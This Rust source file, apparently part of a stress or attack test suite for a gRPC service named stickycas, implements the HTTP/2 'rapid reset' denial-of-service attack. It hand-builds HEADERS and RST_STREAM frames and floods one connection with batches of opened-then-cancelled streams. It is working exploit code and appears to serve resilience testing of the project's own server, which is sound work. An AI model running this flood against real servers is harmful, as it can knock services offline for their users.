//! Opens streams and resets each at once, on one connection and much faster than they can be answered: "rapid
//! reset". Each is the beginning of a call that there is.
//!
//! The bytes are made by hand: a client library would notice that nobody wants the stream any more and not
//! send it.

use stickycas_proto::principal::PRINCIPAL_KEY;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};

use super::attack_context::AttackContext;
use super::byte_stream::{connect, scheme};
use super::raw::{PREFACE, broken, prefixed};
use stickycas_client::Error;

/// Kinds and flags of HTTP/2 frames, and an error code.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// Bytes of the head of a frame.
const HEAD: usize = 9;
/// Streams that are opened and reset before anybody else has a turn.
const AT_A_TIME: usize = 64;

pub(super) async fn attack(context: &AttackContext) -> Result<(), Error> {
    let (mut read, mut write) = tokio::io::split(connect(context.config()).await?);
    let call = call(context);
    // One call is let be, so that the server can know whose connection it is.
    let first = frame(HEADERS, END_HEADERS, 1, &call);
    let empty = frame(DATA, END_STREAM, 1, &prefixed(&[]));
    let begun = async {
        write.write_all(&[PREFACE, &first, &empty].concat()).await?;
        answered(&mut read).await
    };
    begun.await.map_err(|error| broken(context.config(), error))?;
    // The server ends the connection, and whoever is in the middle of writing then learns it too.
    tokio::join!(flood(context, &mut write, &call), drain(&mut read));
    context.tally.cut();
    Ok(())
}

async fn flood(context: &AttackContext, write: &mut (impl AsyncWrite + Unpin), call: &[u8]) {
    let streams: Vec<u32> = (3..).step_by(2).take(context.count as usize).collect();
    for streams in streams.chunks(AT_A_TIME) {
        let mut bytes = Vec::new();
        for stream in streams {
            bytes.extend(frame(HEADERS, END_HEADERS, *stream, call));
            bytes.extend(frame(RST_STREAM, 0, *stream, &CANCEL.to_be_bytes()));
        }
        context.tally.attempts(streams.len() as u64);
        if write.write_all(&bytes).await.is_err() {
            return;
        }
    }
    // If the server has endured it all, it is left alone.
    let _ = write.shutdown().await;
}

/// Until the server ends the connection, however it does.
async fn drain(read: &mut (impl AsyncRead + Unpin)) {
    let mut bytes = [0; 4096];
    while matches!(read.read(&mut bytes).await, Ok(1..)) {}
}

/// Until the first call has its answer: HEADERS of some stream.
async fn answered(read: &mut (impl AsyncRead + Unpin)) -> std::io::Result<()> {
    loop {
        let mut head = [0; HEAD];
        read.read_exact(&mut head).await?;
        let length = u64::from(u32::from_be_bytes([0, head[0], head[1], head[2]]));
        tokio::io::copy(&mut (&mut *read).take(length), &mut tokio::io::sink()).await?;
        if head[3] == HEADERS {
            return Ok(());
        }
    }
}

/// An HTTP/2 frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call (RFC 7541): two of the static table, the others as literals.
fn call(context: &AttackContext) -> Vec<u8> {
    const POST: u8 = 0x83;
    const HTTP: u8 = 0x86;
    const HTTPS: u8 = 0x87;
    let mut block = vec![POST, if scheme(context.config()) == "https" { HTTPS } else { HTTP }];
    for (name, value) in [
        (":path", "/stickycas.v1.InstanceService/List"),
        (":authority", context.config().authority()),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        (PRINCIPAL_KEY, context.principal()),
    ] {
        block.push(0);
        text(&mut block, name);
        text(&mut block, value);
    }
    block
}

/// A string literal: its length in a prefix of seven bits, and its bytes.
fn text(block: &mut Vec<u8>, text: &str) {
    const PREFIX: usize = 0x7f;
    if text.len() < PREFIX {
        block.push(text.len() as u8);
    } else {
        block.push(PREFIX as u8);
        let mut rest = text.len() - PREFIX;
        while rest >= 0x80 {
            block.push((rest % 0x80) as u8 | 0x80);
            rest /= 0x80;
        }
        block.push(rest as u8);
    }
    block.extend(text.as_bytes());
}
